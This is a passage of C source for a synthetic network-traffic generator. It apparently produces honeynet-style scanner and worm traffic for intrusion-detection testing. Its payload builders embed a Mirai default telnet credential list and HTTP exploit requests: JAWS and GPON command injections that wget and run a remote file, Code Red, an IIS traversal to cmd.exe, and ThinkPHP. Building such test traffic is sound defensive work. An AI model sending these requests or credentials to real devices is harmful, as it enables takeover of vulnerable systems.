	return csum_add(0, ph, 12);
}

static uint64_t pseudo6(const uint8_t *src, const uint8_t *dst, uint8_t nh, size_t len)
{
	uint8_t ph[40];
	memcpy(ph, src, 16);
	memcpy(ph + 16, dst, 16);
	be32(ph + 32, (uint32_t)len);
	ph[36] = ph[37] = ph[38] = 0;
	ph[39] = nh;
	return csum_add(0, ph, 40);
}

struct tcph {
	uint16_t sport, dport;
	uint32_t seq, ack;
	uint8_t flags;
	uint16_t win;
	const uint8_t *opt;
	uint8_t optlen;
	const uint8_t *data;
	uint16_t dlen;
};

#define TH_FIN 0x01
#define TH_SYN 0x02
#define TH_RST 0x04
#define TH_PSH 0x08
#define TH_ACK 0x10
#define TH_URG 0x20

static size_t tcp_len(const struct tcph *t) { return 20u + t->optlen + t->dlen; }

static uint8_t *put_tcp(uint8_t *p, const struct tcph *t, uint64_t psum)
{
	size_t hl = 20u + t->optlen;
	be16(p, t->sport);
	be16(p + 2, t->dport);
	be32(p + 4, t->seq);
	be32(p + 8, t->ack);
	p[12] = (uint8_t)((hl / 4) << 4);
	p[13] = t->flags;
	be16(p + 14, t->win);
	p[16] = p[17] = p[18] = p[19] = 0;
	if (t->optlen)
		memcpy(p + 20, t->opt, t->optlen);
	if (t->dlen)
		memcpy(p + hl, t->data, t->dlen);
	csum_store(p + 16, csum_fold(csum_add(psum, p, hl + t->dlen)));
	return p + hl + t->dlen;
}

static uint8_t *put_udp(uint8_t *p, uint16_t sport, uint16_t dport, const uint8_t *data,
			size_t dlen, uint64_t psum)
{
	be16(p, sport);
	be16(p + 2, dport);
	be16(p + 4, (uint16_t)(8 + dlen));
	p[6] = p[7] = 0;
	memcpy(p + 8, data, dlen);
	uint16_t c = csum_fold(csum_add(psum, p, 8 + dlen));
	csum_store(p + 6, c ? c : 0xffff);
	return p + 8 + dlen;
}

static uint8_t *put_icmp(uint8_t *p, uint8_t type, uint8_t code, uint32_t rest,
			 const uint8_t *data, size_t dlen, uint64_t psum)
{
	p[0] = type;
	p[1] = code;
	p[2] = p[3] = 0;
	be32(p + 4, rest);
	memcpy(p + 8, data, dlen);
	csum_store(p + 2, csum_fold(csum_add(psum, p, 8 + dlen)));
	return p + 8 + dlen;
}

/* ------------------------------------------------------------ generator */

struct gen {
	struct rng rt;        /* traffic decisions */
	struct sess *sticky;  /* a fragmented datagram being sent: its pieces go
	                       * out back to back, as a sender emits them */
	struct out o;
	struct source *src;
	uint32_t nsrc;
	double *zipf;         /* cumulative activity by source rank */
	uint32_t *by_pref[5]; /* source indices per preference group, rank order */
	uint32_t n_pref[5];
	struct source6 *src6;
	uint32_t nsrc6;
	struct net4 *hn4;
	size_t nhn4;
	uint64_t hn4_total;
	struct net6 *hn6;
	size_t nhn6;
	struct os_opts osopt[N_OS];
	double recipe_cdf[N_RECIPES];
	struct sess *sess;
	uint32_t nsess;
	struct reply rep;
	double reply_share;
	uint64_t emitted, replies;
	uint64_t now_ms;      /* ms since the start of the day, for TCP timestamps */
	uint64_t kind_count[10];
};

static uint32_t pick_rank(struct gen *g)
{
	double u = runit(&g->rt) * g->zipf[g->nsrc - 1];
	uint32_t lo = 0, hi = g->nsrc - 1;
	while (lo < hi) {
		uint32_t mid = lo + (hi - lo) / 2;
		if (g->zipf[mid] < u)
			lo = mid + 1;
		else
			hi = mid;
	}
	return lo;
}

/* A rank drawn over the whole pool is rescaled into the preferred group so
 * that the group keeps the same skew (its top sources stay its busiest). */
static uint32_t pick_source(struct gen *g, enum pref pf)
{
	uint32_t r = pick_rank(g);
	double p = pf == PF_WIN ? 0.6 : pf == PF_MIRAI ? 0.75 : 1.0;
	if (pf == PF_ANY || g->n_pref[pf] == 0 || !rchance(&g->rt, p))
		return r;
	return g->by_pref[pf][(uint64_t)r * g->n_pref[pf] / g->nsrc];
}

static uint32_t pick_dst(struct gen *g)
{
	uint64_t k = ((rnext(&g->rt) >> 11) % g->hn4_total);
	for (size_t i = 0; i < g->nhn4; i++) {
		if (k < g->hn4[i].size) {
			const struct net4 *n = &g->hn4[i];
			if (n->size >= 4) /* avoid network and broadcast addresses */
				return n->base + 1 + (uint32_t)(k % (n->size - 2));
			return n->base + (uint32_t)k;
		}
		k -= g->hn4[i].size;
	}
	return g->hn4[0].base;
}

static bool in_honeynet(const struct gen *g, uint32_t a)
{
	for (size_t i = 0; i < g->nhn4; i++)
		if (a - g->hn4[i].base < g->hn4[i].size)
			return true;
	return false;
}

/* Sequential scanners walk the honeynet; stay inside the same block. */
static uint32_t next_dst(struct gen *g, uint32_t d)
{
	for (size_t i = 0; i < g->nhn4; i++) {
		const struct net4 *n = &g->hn4[i];
		if (d - n->base < n->size) {
			uint32_t off = d - n->base + 1;
			if (n->size >= 4 && off >= n->size - 1)
				off = 1;
			else if (off >= n->size)
				off = 0;
			return n->base + off;
		}
	}
	return pick_dst(g);
}

static uint16_t ephemeral(struct gen *g, struct source *s)
{
	const struct os_def *o = &os_tab[s->os];
	if (o->kind == OS_MIRAI || o->kind == OS_MASSCAN)
		return safe_port(&g->rt, 1024, 65535);
	uint16_t lo = 32768, hi = 60999;
	if (s->os == OSI_WINXP) {
		lo = 1025; hi = 5000;
	} else if (s->os == OSI_WIN7 || s->os == OSI_WIN10) {
		lo = 49152; hi = 65535;
	}
	if (s->sport < lo || s->sport > hi)
		s->sport = safe_port(&g->rt, lo, hi);
	while (printer_port(s->sport))
		s->sport = s->sport < hi ? (uint16_t)(s->sport + 1) : lo;
	return s->sport++;
}

/* ---------------------------------------------------- payload builders */

static void msg_add(struct sess *s, const void *data, size_t len)
{
	if (s->nmsg >= MAXMSG || s->plen + len > PAYMAX || len == 0)
		return;
	memcpy(s->payload + s->plen, data, len);
	s->moff[s->nmsg] = s->plen;
	s->mlen[s->nmsg] = (uint16_t)len;
	s->nmsg++;
	s->plen = (uint16_t)(s->plen + len);
}

static void msg_fmt(struct sess *s, const char *fmt, ...) __attribute__((format(printf, 2, 3)));
static void msg_fmt(struct sess *s, const char *fmt, ...)
{
	char tmp[PAYMAX];
	va_list ap;
	va_start(ap, fmt);
	int n = vsnprintf(tmp, sizeof tmp, fmt, ap);
	va_end(ap);
	if (n > 0)
		msg_add(s, tmp, (size_t)n < sizeof tmp ? (size_t)n : sizeof tmp - 1);
}

static void fill_random(struct rng *r, uint8_t *p, size_t n)
{
	while (n >= 8) {
		uint64_t v = rnext(r);
		memcpy(p, &v, 8);
		p += 8; n -= 8;
	}
	if (n) {
		uint64_t v = rnext(r);
		memcpy(p, &v, n);
	}
}

static const char *ip4str(uint32_t a, char *buf)
{
	snprintf(buf, 16, "%u.%u.%u.%u", a >> 24, (a >> 16) & 255, (a >> 8) & 255, a & 255);
	return buf;
}

static const char *const telnet_pw[] = {
	"xc3511", "vizxv", "admin", "888888", "xmhdipc", "default", "juantech", "123456",
	"54321", "support", "root", "12345", "user", "pass", "admin1234", "1111",
	"smcadmin", "666666", "password", "1234", "klv123", "service", "supervisor",
	"guest", "7ujMko0admin", "ikwb", "dreambox", "realtek", "00000000", "anko", "zlxx.",
	"hi3518", "jvbzd", "system", "Zte521", "7ujMko0vizxv",
};
static const char *const telnet_user[] = { "root", "admin", "support", "user", "guest", "Administrator" };

static void build_smb(struct gen *g, struct sess *s)
{
	/* SMB1 negotiate with the classic dialect list. */
	static const char *const dialects[] = {
		"PC NETWORK PROGRAM 1.0", "LANMAN1.0", "Windows for Workgroups 3.1a",
		"LM1.2X002", "LANMAN2.1", "NT LM 0.12",
	};
	uint8_t b[3072];
	size_t n = 4;
	static const uint8_t smbh[32] = {
		0xff, 'S', 'M', 'B', 0x72, 0, 0, 0, 0, 0x18, 0x01, 0x28, 0, 0, 0, 0,
		0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xfe, 0, 0, 0x40, 0,
	};
	memcpy(b + n, smbh, 32);
	n += 32;
	b[n++] = 0; /* word count */
	size_t bc = n;
	n += 2;
	for (size_t i = 0; i < sizeof dialects / sizeof *dialects; i++) {
		b[n++] = 2;
		size_t l = strlen(dialects[i]) + 1;
		memcpy(b + n, dialects[i], l);
		n += l;
	}
	le16(b + bc, (uint16_t)(n - bc - 2));
	b[0] = 0; b[1] = 0; be16(b + 2, (uint16_t)(n - 4));
	msg_add(s, b, n);

	/* Session setup with a random NTLMSSP-ish blob. */
	n = 4;
	memcpy(b + n, smbh, 32);
	b[n + 4] = 0x73;
	n += 32;
	b[n++] = 12;
	fill_random(&g->rt, b + n, 24);
	n += 24;
	size_t blob = rrange(&g->rt, 60, 180);
	le16(b + n, (uint16_t)blob);
	n += 2;
	memcpy(b + n, "NTLMSSP", 8);
	fill_random(&g->rt, b + n + 8, blob - 8);
	n += blob;
	be16(b + 2, (uint16_t)(n - 4));
	msg_add(s, b, n);

	if (rchance(&g->rt, 0.4)) {
		/* Trans/TransactNmPipe carrying a DCE/RPC bind to ISystemActivator
		 * (the Blaster-over-445 shape the classic IDS rules look for). */
		n = 4;
		memcpy(b + n, smbh, 32);
		b[n + 4] = 0x25;
		n += 32;
		b[n++] = 16;                       /* word count */
		memset(b + n, 0, 28);              /* trans parameter words */
		le16(b + n + 2, 72);               /* total data count */
		le16(b + n + 6, 1024);             /* max data count */
		n += 28;
		le16(b + n, 0x0026); n += 2;       /* setup[0]: TransactNmPipe */
		le16(b + n, 0x4000); n += 2;       /* setup[1]: FID */
		le16(b + n, 72 + 13); n += 2;      /* byte count */
		b[n++] = 0;                        /* pad */
		static const uint8_t pipe[12] = { '\\', 0, 'P', 0, 'I', 0, 'P', 0, 'E', 0, '\\', 0 };
		memcpy(b + n, pipe, 12);
		n += 12;
		uint8_t *d = b + n;
		memset(d, 0, 72);
		d[0] = 5; d[1] = 0; d[2] = 0x0b; d[3] = 0x03;
		d[4] = 0x10;
		le16(d + 8, 72);
		le32(d + 12, 1);
		le16(d + 16, 4280); le16(d + 18, 4280);
		d[24] = 1;
		d[30] = 1;
		static const uint8_t uuid[16] = { 0xa0, 0x01, 0, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46 };
		memcpy(d + 32, uuid, 16);
		d[48] = 0; d[49] = 0;
		static const uint8_t ndr[20] = {
			0x04, 0x5d, 0x88, 0x8a, 0xeb, 0x1c, 0xc9, 0x11, 0x9f, 0xe8,
			0x08, 0x00, 0x2b, 0x10, 0x48, 0x60, 0x02, 0, 0, 0 };
		memcpy(d + 52, ndr, 20);
		n += 72;
		be16(b + 2, (uint16_t)(n - 4));
		msg_add(s, b, n);
	} else if (rchance(&g->rt, 0.5)) {
		/* Large exploit-like write (EternalBlue-era transactions are
		 * several full-size segments of mostly filler). */
		size_t big = rrange(&g->rt, 1200, 2900);
		memset(b, 0, 4);
		be16(b + 2, (uint16_t)(big - 4));
		memcpy(b + 4, smbh, 32);
		b[8] = 0x33;
		memset(b + 36, 0x41, big - 36);
		fill_random(&g->rt, b + 36 + (big - 36) / 2, (big - 36) / 4);
		msg_add(s, b, big);
	}
}

static void build_telnet(struct gen *g, struct sess *s)
{
	static const uint8_t iac[] = { 0xff, 0xfb, 0x1f, 0xff, 0xfb, 0x20, 0xff, 0xfb, 0x18,
				       0xff, 0xfb, 0x27, 0xff, 0xfd, 0x01, 0xff, 0xfb, 0x03, 0xff, 0xfd, 0x03 };
	msg_add(s, iac, rrange(&g->rt, 3, 7) * 3);
	msg_fmt(s, "%s\r\n", telnet_user[rbelow(&g->rt, 6)]);
	msg_fmt(s, "%s\r\n", telnet_pw[rbelow(&g->rt, sizeof telnet_pw / sizeof *telnet_pw)]);
	if (rchance(&g->rt, 0.6)) {
		msg_fmt(s, "enable\r\n");
		msg_fmt(s, "system\r\n");
		msg_fmt(s, "shell\r\n");
		msg_fmt(s, "sh\r\n");
		msg_fmt(s, "/bin/busybox %s\r\n", rchance(&g->rt, 0.5) ? "MIRAI" : "ECCHI");
	}
}

static void build_ssh(struct gen *g, struct sess *s)
{
	static const char *const banners[] = {
		"SSH-2.0-libssh-0.6.3\r\n", "SSH-2.0-Go\r\n", "SSH-2.0-PuTTY_Release_0.70\r\n",
		"SSH-2.0-libssh2_1.4.3\r\n", "SSH-2.0-OpenSSH_7.4p1 Raspbian-10+deb9u7\r\n",
		"SSH-2.0-paramiko_2.7.2\r\n",
	};
	msg_fmt(s, "%s", banners[rbelow(&g->rt, 6)]);
	/* KEXINIT: packet length, padding, type 20, cookie, then name-lists */
	uint8_t b[1400];
	size_t n = 6;
	b[5] = 20;
	fill_random(&g->rt, b + n, 16);
	n += 16;
	static const char *const lists[] = {
		"curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,diffie-hellman-group14-sha1,diffie-hellman-group1-sha1",
		"ssh-rsa,ssh-dss,ecdsa-sha2-nistp256,ssh-ed25519",
		"aes128-ctr,aes192-ctr,aes256-ctr,aes128-cbc,3des-cbc",
		"aes128-ctr,aes192-ctr,aes256-ctr,aes128-cbc,3des-cbc",
		"hmac-sha2-256,hmac-sha1,hmac-md5", "hmac-sha2-256,hmac-sha1,hmac-md5",
		"none", "none", "", "",
	};
	for (size_t i = 0; i < 10; i++) {
		size_t l = strlen(lists[i]);
		be32(b + n, (uint32_t)l);
		memcpy(b + n + 4, lists[i], l);
		n += 4 + l;
	}
	b[n++] = 0;
	memset(b + n, 0, 4);
	n += 4;
	size_t pad = 8 - (n % 8);
	if (pad < 4)
		pad += 8;
	memset(b + n, 0, pad);
	b[4] = (uint8_t)pad;
	n += pad;
	be32(b, (uint32_t)(n - 4));
	msg_add(s, b, n);
	/* key exchange and a few encrypted password attempts */
	int k = (int)rrange(&g->rt, 1, 5);
	for (int i = 0; i < k; i++) {
		size_t l = i == 0 ? 48 : rrange(&g->rt, 60, 200);
		fill_random(&g->rt, b, l);
		if (i == 0) {
			be32(b, 44);
			b[4] = 6;
			b[5] = 30;
			be32(b + 6, 32);
		}
		msg_add(s, b, l);
	}
}

static void build_http(struct gen *g, struct sess *s, const struct source *src)
{
	char ip[16], hp[16];
	ip4str(src->ip, ip);
	ip4str(s->dst, hp);
	switch (rbelow(&g->rt, 8)) {
	case 0:
	case 1:
		msg_fmt(s, "GET /shell?cd+/tmp;rm+-rf+*;wget+http://%s/jaws;sh+/tmp/jaws HTTP/1.1\r\n"
			   "User-Agent: Hello, world\r\nHost: %s:%u\r\n"
			   "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\n"
			   "Connection: keep-alive\r\n\r\n", ip, hp, s->dport);
		break;
	case 2:
		msg_fmt(s, "GET / HTTP/1.1\r\nHost: %s:%u\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\n"
			   "Accept: */*\r\nAccept-Encoding: gzip\r\n\r\n", hp, s->dport);
		break;
	case 3: {
		/* Code Red shape: .ida? request, long N filler, %u-encoded
		 * sled, then a multi-segment binary body. */
		char req[1200];
		int n = snprintf(req, sizeof req, "GET /default.ida?");
		memset(req + n, 'N', 224);
		n += 224;
		n += snprintf(req + n, sizeof req - (size_t)n,
			      "%%u9090%%u6858%%ucbd3%%u7801%%u9090%%u6858%%ucbd3%%u7801%%u9090"
			      "%%u9090%%u8190%%u00c3%%u0003%%u8b00%%u531b%%u53ff%%u0078%%u0000%%u00=a HTTP/1.0\r\n"
			      "Content-type: text/xml\r\nContent-length: 3379 \r\n\r\n");
		uint8_t body[PAYMAX];
		size_t blen = 3379;
		if ((size_t)n + blen > PAYMAX - 64)
			blen = PAYMAX - 64 - (size_t)n;
		memcpy(body, req, (size_t)n);
		fill_random(&g->rt, body + n, blen);
		msg_add(s, body, (size_t)n + blen);
		break;
	}
	case 4:
		msg_fmt(s, "GET /scripts/..%%c0%%af../winnt/system32/cmd.exe?/c+dir HTTP/1.0\r\n"
			   "Host: www\r\nConnnection: close\r\n\r\n");
		break;
	case 5:
		msg_fmt(s, "GET / HTTP/1.0\r\nUser-Agent: masscan/1.3 (https://github.com/robertdavidgraham/masscan)\r\n"
			   "Accept: */*\r\n\r\n");
		break;
	case 6:
		msg_fmt(s, "POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 127.0.0.1:%u\r\n"
			   "Connection: keep-alive\r\nAccept-Encoding: gzip, deflate\r\nAccept: */*\r\n"
			   "User-Agent: Hello, World\r\nContent-Length: 118\r\n\r\n"
			   "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=``;wget+http://%s/gpon80+-O+->/tmp/gpon80;sh+/tmp/gpon80&ipv=0",
			s->dport, ip);
		break;
	default:
		msg_fmt(s, "GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array"
			   "&vars[0]=md5&vars[1][]=HelloThinkPHP21 HTTP/1.1\r\nHost: %s\r\n"
			   "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
			   "(KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36\r\n"
			   "Accept: */*\r\nConnection: close\r\n\r\n", hp);
		break;
	}
}

static void build_proxy(struct gen *g, struct sess *s)
{
	char ip[16];
	switch (rbelow(&g->rt, 3)) {
	case 0:
		msg_fmt(s, "CONNECT %s:25 HTTP/1.0\r\n\r\n", ip4str(rnext(&g->rt) >> 32 | 0x01000000u, ip));
		break;
	case 1:
		msg_fmt(s, "CONNECT www.google.com:443 HTTP/1.1\r\nHost: www.google.com:443\r\n"
			   "Proxy-Connection: keep-alive\r\n\r\n");
		break;
	default:
		msg_fmt(s, "GET http://www.example.com/ HTTP/1.0\r\nUser-Agent: webcollage/1.135a\r\n"
			   "Host: www.example.com\r\n\r\n");
		break;
	}
}

static void build_socks(struct gen *g, struct sess *s)
{
	uint8_t b[16];
	uint32_t target = (uint32_t)(rnext(&g->rt) >> 32) | 0x01000000u;
	if (rchance(&g->rt, 0.5)) {
		b[0] = 4; b[1] = 1; be16(b + 2, 25); be32(b + 4, target); b[8] = 0;
		msg_add(s, b, 9);
	} else {
		b[0] = 5; b[1] = 1; b[2] = 0;
		msg_add(s, b, 3);
		b[0] = 5; b[1] = 1; b[2] = 0; b[3] = 1; be32(b + 4, target); be16(b + 8, 80);
		msg_add(s, b, 10);
	}
}

static void build_flow_payload(struct gen *g, struct sess *s, const struct source *src)
{
	uint8_t b[600];
	switch (s->r->svc) {
	case SV_SMB: build_smb(g, s); break;
	case SV_TELNET: build_telnet(g, s); break;
	case SV_SSH: build_ssh(g, s); break;
	case SV_HTTP: build_http(g, s, src); break;
	case SV_PROXY: build_proxy(g, s); break;
	case SV_SOCKS: build_socks(g, s); break;
	case SV_TDS: {
		static const uint8_t pre[] = {
			0x12, 0x01, 0x00, 0x2f, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x1a, 0x00, 0x06,
			0x01, 0x00, 0x20, 0x00, 0x01, 0x02, 0x00, 0x21, 0x00, 0x01, 0x03, 0x00, 0x22,
			0x00, 0x04, 0x04, 0x00, 0x26, 0x00, 0x01, 0xff, 0x09, 0x00, 0x00, 0x00, 0x00,
			0x00, 0x01, 0x00, 0xb8, 0x0d, 0x00, 0x00, 0x01 };
		msg_add(s, pre, sizeof pre);
		size_t l = rrange(&g->rt, 180, 320);
		fill_random(&g->rt, b, l);
		b[0] = 0x10; b[1] = 0x01; be16(b + 2, (uint16_t)l); b[4] = b[5] = 0; b[6] = 1; b[7] = 0;
		static const uint8_t sa[] = { 's', 0, 'a', 0 };
		memcpy(b + 94, sa, 4);
		msg_add(s, b, l);
		break;
	}
	case SV_RDP: {
		static const char *const names[] = { "hello", "Administr", "Test", "user" };
		char cookie[64];
		int cl = snprintf(cookie, sizeof cookie, "Cookie: mstshash=%s\r\n", names[rbelow(&g->rt, 4)]);
		size_t n = 11 + (size_t)cl + 8;
		b[0] = 3; b[1] = 0; be16(b + 2, (uint16_t)n);
		b[4] = (uint8_t)(n - 5); b[5] = 0xe0; memset(b + 6, 0, 5);
		memcpy(b + 11, cookie, (size_t)cl);
		static const uint8_t neg[8] = { 0x01, 0x00, 0x08, 0x00, 0x03, 0x00, 0x00, 0x00 };
		memcpy(b + 11 + cl, neg, 8);
		msg_add(s, b, n);
		break;
	}
	case SV_DCE: {
		/* bind to ISystemActivator, then an oversized request (MS03-026) */
		memset(b, 0, 72);
		b[0] = 5; b[2] = 0x0b; b[3] = 3; b[4] = 0x10;
		le16(b + 8, 72); le32(b + 12, 127); le16(b + 16, 5840); le16(b + 18, 5840);
		b[24] = 1; b[30] = 1;
		static const uint8_t uuid[16] = { 0xa0, 0x01, 0, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46 };
		memcpy(b + 32, uuid, 16);
		static const uint8_t ndr[20] = {
			0x04, 0x5d, 0x88, 0x8a, 0xeb, 0x1c, 0xc9, 0x11, 0x9f, 0xe8,
			0x08, 0x00, 0x2b, 0x10, 0x48, 0x60, 0x02, 0, 0, 0 };
		memcpy(b + 52, ndr, 20);
		msg_add(s, b, 72);
		uint8_t big[1800];
		size_t l = 1705;
		memset(big, 0x90, l);
		big[0] = 5; big[1] = 0; big[2] = 0; big[3] = 3; big[4] = 0x10; big[5] = big[6] = big[7] = 0;
		le16(big + 8, (uint16_t)l);
		memcpy(big + 100, "\\\\\0\\\0", 6);
		fill_random(&g->rt, big + 900, 500);
		msg_add(s, big, l);
		break;
	}
	case SV_SMTP:
		msg_fmt(s, "EHLO User\r\n");
		msg_fmt(s, "MAIL FROM:<%c%c%c%u@mail.example.net>\r\n", 'a' + rbelow(&g->rt, 26),
			'a' + rbelow(&g->rt, 26), 'a' + rbelow(&g->rt, 26), rbelow(&g->rt, 1000));
		msg_fmt(s, "RCPT TO:<postmaster@example.org>\r\n");
		msg_fmt(s, "DATA\r\n");
		break;
	case SV_VNC:
		msg_fmt(s, "RFB 003.008\n");
		b[0] = 2;
		msg_add(s, b, 1);
		fill_random(&g->rt, b, 16);
		msg_add(s, b, 16);
		break;
	case SV_TLS: {
		size_t l = rchance(&g->rt, 0.5) ? 517 : rrange(&g->rt, 180, 320);
		fill_random(&g->rt, b, l);
		b[0] = 0x16; b[1] = 3; b[2] = 1; be16(b + 3, (uint16_t)(l - 5));
		b[5] = 1; b[6] = 0; be16(b + 7, (uint16_t)(l - 9)); b[9] = 3; b[10] = 3;
		msg_add(s, b, l);
		break;
	}
	case SV_DOOM: {
		uint8_t big[3000];
		size_t l = rrange(&g->rt, 1500, 2900);
		fill_random(&g->rt, big, l);
		static const uint8_t magic[5] = { 0x85, 0x13, 0x3c, 0x9e, 0xa2 };
		memcpy(big, magic, 5);
		msg_add(s, big, l);
		break;
	}
	default:
		break;
	}
}

/* UDP payload for one datagram of a session; returns its length. */
static size_t build_udp(struct gen *g, struct sess *s, uint8_t *b, size_t cap)
{
	size_t n = 0;
	char hp[16];
	switch (s->r->svc) {
	case SV_SLAMMER: {
		/* 376 bytes: 0x04 request byte, a 0x01 run, then code-like
		 * bytes carrying the fragments the Slammer IDS rules match. */
		n = 376;
		b[0] = 0x04;
		memset(b + 1, 0x01, 96);
		fill_random(&g->rt, b + 97, n - 97);
		static const uint8_t sig[9] = { 0x81, 0xf1, 0x03, 0x01, 0x04, 0x9b, 0x81, 0xf1, 0x01 };
		memcpy(b + 120, sig, 9);
		memcpy(b + 200, "ws2_32.dll", 10);
		memcpy(b + 214, "kernel32.dll", 12);
		memcpy(b + 230, "GetTickCount", 12);
		memcpy(b + 246, "socket", 6);
		memcpy(b + 256, "sendto", 6);
		memcpy(b + 266, "sock", 4);
		memcpy(b + 274, "send", 4);
		break;
	}
	case SV_NBNS: {
		/* NBSTAT query for "*" */
		static const uint8_t q[] = { 0x00, 0x00, 0x00, 0x10, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x20 };
		memcpy(b, q, sizeof q);
		be16(b, (uint16_t)rnext(&g->rt));
		n = sizeof q;
		b[n++] = 'C'; b[n++] = 'K';
		memset(b + n, 'A', 30);
		n += 30;
		b[n++] = 0; be16(b + n, 0x21); be16(b + n + 2, 1);
		n += 4;
		break;
	}
	case SV_DNS: {
		static const char *const names[] = { "\3isc\3org", "\7version\4bind", "\6google\3com",
						     "\3www\7example\3com", "\4pizzaseo\3com" };
		static const uint16_t qtype[] = { 255, 16, 1, 1, 255 };
		unsigned k = rbelow(&g->rt, 5);
		be16(b, (uint16_t)rnext(&g->rt));
		be16(b + 2, k == 2 || k == 3 ? 0x0100 : 0x0000);
		be16(b + 4, 1); be16(b + 6, 0); be16(b + 8, 0); be16(b + 10, k == 0 || k == 4 ? 1 : 0);
		n = 12;
		size_t l = strlen(names[k]) + 1;
		memcpy(b + n, names[k], l);
		n += l;
		be16(b + n, qtype[k]);
		be16(b + n + 2, k == 1 ? 3 : 1);
		n += 4;
		if (k == 0 || k == 4) { /* EDNS0 OPT, 4096-byte buffer: amplification probe */
			static const uint8_t opt[11] = { 0, 0, 41, 0x10, 0, 0, 0, 0, 0, 0, 0 };
			memcpy(b + n, opt, 11);
			n += 11;
		}
		break;
	}
	case SV_SNMP: {
		static const uint8_t get[] = {
			0x30, 0x29, 0x02, 0x01, 0x01, 0x04, 0x06, 'p', 'u', 'b', 'l', 'i', 'c', 0xa0, 0x1c,
			0x02, 0x04, 0x00, 0x00, 0x00, 0x00, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00, 0x30, 0x0e,
			0x30, 0x0c, 0x06, 0x08, 0x2b, 0x06, 0x01, 0x02, 0x01, 0x01, 0x01, 0x00, 0x05, 0x00 };
		memcpy(b, get, sizeof get);
		be32(b + 17, (uint32_t)(rnext(&g->rt) >> 33));
		n = sizeof get;
		break;
	}
	case SV_SSDP:
		n = (size_t)snprintf((char *)b, cap, "M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\n"
			"MAN: \"ssdp:discover\"\r\nMX: %u\r\nST: %s\r\n\r\n", rrange(&g->rt, 1, 3),
			rchance(&g->rt, 0.5) ? "ssdp:all" : "upnp:rootdevice");
		break;
	case SV_NTP:
		if (rchance(&g->rt, 0.6)) { /* mode 7 MON_GETLIST_1 */
			static const uint8_t ml[8] = { 0x17, 0x00, 0x03, 0x2a, 0, 0, 0, 0 };
			memset(b, 0, 48);
			memcpy(b, ml, 8);
			n = rchance(&g->rt, 0.5) ? 8 : 48;
		} else {
			memset(b, 0, 48);
			b[0] = 0xe3;
			fill_random(&g->rt, b + 40, 8);
			n = 48;
		}
		break;
	case SV_SIP: {
		uint32_t tag = (uint32_t)rnext(&g->rt);
		ip4str(s->dst, hp);
		n = (size_t)snprintf((char *)b, cap,
			"OPTIONS sip:100@%s SIP/2.0\r\nVia: SIP/2.0/UDP %s:5060;branch=z9hG4bK-%u;rport\r\n"
			"Max-Forwards: 70\r\nTo: \"sipvicious\"<sip:100@1.1.1.1>\r\n"
			"From: \"sipvicious\"<sip:100@1.1.1.1>;tag=%08x\r\nUser-Agent: friendly-scanner\r\n"
			"Call-ID: %u\r\nCSeq: 1 OPTIONS\r\nContact: <sip:100@1.1.1.1>\r\n"
			"Accept: application/sdp\r\nContent-Length: 0\r\n\r\n", hp, hp, tag, tag, tag ^ 0x5a5a5a5au);
		break;
	}
	case SV_MESSENGER: {
		/* DCE/RPC v4 connectionless request: 04 00 28 00, 80-byte header,
		 * then NDR strings: from, to, message text. */
		static const char *const texts[] = {
			"ALERT: DANGEROUS SPYWARE VIRUS FOUND ON YOUR SYSTEM! Visit WWW.SECURE-FIX.EXAMPLE to remove it now.",
			"Microsoft Security Bulletin MS03-043 Buffer Overrun in Messenger Service. Download the patch from WWW.PATCH.EXAMPLE",
			"WINDOWS REQUIRES IMMEDIATE ATTENTION. Your computer is broadcasting an Internet address. Go to WWW.STOPIT.EXAMPLE",
		};
		memset(b, 0, 80);
		b[0] = 4; b[1] = 0; b[2] = 0x28; b[3] = 0; b[4] = 0x10;
		fill_random(&g->rt, b + 8, 48);
		n = 80;
		const char *parts[3] = { "Security Center", "Administrator", texts[rbelow(&g->rt, 3)] };
		for (int i = 0; i < 3; i++) {
			uint32_t l = (uint32_t)strlen(parts[i]) + 1;
			le32(b + n, l); le32(b + n + 4, 0); le32(b + n + 8, l);
			n += 12;
			memcpy(b + n, parts[i], l);
			n += l;
			while (n % 4)
				b[n++] = 0;
		}
		le16(b + 74, (uint16_t)(n - 80));
		break;
	}
	case SV_TFTP: {
		static const char *const files[] = { "mips", "bins.sh", "x86", "startup-config", "config.txt", "t8UsA2" };
		b[0] = 0; b[1] = 1;
		n = 2 + (size_t)snprintf((char *)b + 2, cap - 2, "%s", files[rbelow(&g->rt, 6)]) + 1;
		memcpy(b + n, "octet", 6);
		n += 6;
		break;
	}
	default:
		switch (s->dport) {
		case 11211: memcpy(b, "\0\1\0\0\0\1\0\0stats\r\n", 15); n = 15; break;
		case 19: b[0] = 'a'; n = 1; break;
		case 5353: { /* mDNS service enumeration */
			static const uint8_t q[] = { 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 9, '_', 's', 'e', 'r', 'v',
				'i', 'c', 'e', 's', 7, '_', 'd', 'n', 's', '-', 's', 'd', 4, '_', 'u', 'd', 'p', 5,
				'l', 'o', 'c', 'a', 'l', 0, 0, 12, 0, 1 };
			memcpy(b, q, sizeof q);
			n = sizeof q;
			break;
		}
		case 3702:
			n = (size_t)snprintf((char *)b, cap, "<?xml version=\"1.0\" encoding=\"utf-8\"?>"
				"<soap:Envelope xmlns:soap=\"http://www.w3.org/2003/05/soap-envelope\" "
				"xmlns:wsa=\"http://schemas.xmlsoap.org/ws/2004/08/addressing\">"
				"<soap:Header><wsa:Action>http://schemas.xmlsoap.org/ws/2005/04/discovery/Probe</wsa:Action>"
				"<wsa:MessageID>urn:uuid:%08x-1f2e-4d3c-8b9a-0a1b2c3d4e5f</wsa:MessageID></soap:Header>"
